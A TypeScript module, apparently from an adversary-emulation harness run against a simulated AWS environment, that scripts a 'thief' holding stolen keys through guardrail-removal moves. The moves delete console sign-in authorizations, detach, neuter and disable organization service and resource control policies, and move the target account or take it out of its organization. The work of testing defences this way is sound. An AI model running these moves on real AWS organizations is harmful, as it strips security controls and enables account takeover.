import {
  DetachPolicyCommand,
  DisablePolicyTypeCommand,
  LeaveOrganizationCommand,
  MoveAccountCommand,
  type PolicyType,
  RemoveAccountFromOrganizationCommand,
  UpdatePolicyCommand,
} from "@aws-sdk/client-organizations";
import { signedCall } from "../../../src/demo/signin/signed-call.ts";
import type { Held, Move, Thief } from "./thief.ts";

async function signin(thief: Thief, { arn, keys }: Held, path: string, body: object): Promise<boolean> {
  const scope = { service: "signin", region: "us-east-1" };
  const answer = await signedCall(thief.aws.url, keys, scope, { path, body: { ...body } });
  if (answer.status < 300) return true;
  return thief.refuse("take the wall down", `signin ${path} as ${arn}`, answer.error ?? String(answer.status));
}

const wallOff: Move = {
  name: "take the wall down",
  play: async (thief) => {
    const { organization } = thief.aws.state;
    let isNew = false;
    for (const held of thief.held) {
      const own = held.account === thief.target ? [{}] : [];
      const central =
        held.account === organization?.managementId
          ? [organization.id, organization.rootId, thief.target].map((targetId) => ({ targetId }))
          : [];
      for (const body of [...own, ...central]) {
        if (await signin(thief, held, "/delete-console-authorization-configuration", body)) {
          isNew = thief.note(`deleted the console authorization as ${held.arn}`);
        }
      }
      if (held.account !== thief.target) continue;
      for (const { id: statementId } of thief.account(thief.target)?.signin.statements ?? []) {
        if (await signin(thief, held, "/delete-resource-permission-statement", { statementId })) {
          isNew = thief.note(`deleted a sign-in statement as ${held.arn}`);
        }
      }
    }
    return isNew;
  },
};

const types: readonly PolicyType[] = ["SERVICE_CONTROL_POLICY", "RESOURCE_CONTROL_POLICY"];
const harmless = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Deny", Action: "braket:SearchJobs", Resource: "*" }],
});
const harmlessRcp = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Deny", Principal: "*", Action: "sqs:PurgeQueue", Resource: "*" }],
});

/** Detaches and rewrites every policy of the organization's own, and ends both types. */
const editPolicies: Move = {
  name: "edit policies",
  play: async (thief) => {
    const { organization } = thief.aws.state;
    if (organization === null) return false;
    let isNew = false;
    for (const { arn, keys } of thief.held) {
      const client = thief.clientsFor(keys).organizations;
      const send = async (step: string, make: () => Promise<unknown>) => {
        const done = await thief.call("edit policies", `${step} as ${arn}`, make);
        if (done !== null) isNew = thief.note(`${step} as ${arn}`);
      };
      for (const { id, type, awsManaged, document } of organization.policies.values()) {
        if (awsManaged) continue;
        const targets = [...organization.attachments[type]].filter(([, list]) => list.includes(id));
        if (targets.length === 0) continue;
        for (const [TargetId] of targets) {
          await send("organizations:DetachPolicy", () =>
            client.send(new DetachPolicyCommand({ PolicyId: id, TargetId })),
          );
        }
        const Content = type === "SERVICE_CONTROL_POLICY" ? harmless : harmlessRcp;
        if (document.text === Content || !isAttached(thief, id)) continue;
        await send("organizations:UpdatePolicy", () => client.send(new UpdatePolicyCommand({ PolicyId: id, Content })));
      }
      for (const PolicyType of types) {
        const guards = [...organization.policies.values()].some(
          ({ id, type, awsManaged }) => type === PolicyType && !awsManaged && isAttached(thief, id),
        );
        if (!guards) continue;
        await send("organizations:DisablePolicyType", () =>
          client.send(new DisablePolicyTypeCommand({ RootId: organization.rootId, PolicyType })),
        );
      }
    }
    if (isNew) thief.shut.clear();
    return isNew;
  },
};

function isAttached(thief: Thief, id: string): boolean {
  const { organization } = thief.aws.state;
  if (organization === null) return false;
  return Object.values(organization.attachments).some((map) => [...map.values()].some((list) => list.includes(id)));
}

/** Cannot be undone, so they are tried when nothing else brings him further. */
const leave: Move = {
  name: "leave the organization",
  play: async (thief) => {
    if (thief.aws.state.organization === null || thief.account(thief.target)?.parent === null) return false;
    for (const { arn, account, keys } of thief.held) {
      const client = thief.clientsFor(keys).organizations;
      const done =
        account === thief.target
          ? await thief.call("leave the organization", `organizations:LeaveOrganization as ${arn}`, () =>
              client.send(new LeaveOrganizationCommand({})),
            )
          : await thief.call("leave the organization", `organizations:RemoveAccountFromOrganization as ${arn}`, () =>
              client.send(new RemoveAccountFromOrganizationCommand({ AccountId: thief.target })),
            );
      if (done !== null) return thief.note(`took the account out of the organization as ${arn}`);
    }
    return false;
  },
};

const move: Move = {
  name: "move the account",
  play: async (thief) => {
    const { organization } = thief.aws.state;
    const account = thief.account(thief.target);
    if (organization === null || account === undefined || account.parent === null) return false;
    const tried = thief.taken.filter((step) => step.startsWith("moved the account")).length;
    const places = [...organization.nodes.keys()].filter((id) => id !== account.parent);
    const DestinationParentId = places[tried];
    if (DestinationParentId === undefined) return false;
    for (const { arn, keys } of thief.held) {
      const client = thief.clientsFor(keys).organizations;
      const SourceParentId = account.parent ?? "";
      const done = await thief.call("move the account", `organizations:MoveAccount as ${arn}`, () =>
        client.send(new MoveAccountCommand({ AccountId: thief.target, SourceParentId, DestinationParentId })),
      );
      if (done !== null) return thief.note(`moved the account to ${DestinationParentId} as ${arn}`);
    }
    return false;
  },
};

/** What stands in the way of other moves, and how to take it off. */
export const wallMoves: readonly Move[] = [wallOff, editPolicies];
/** See `leave`. */
export const lastMoves: readonly Move[] = [move, leave];
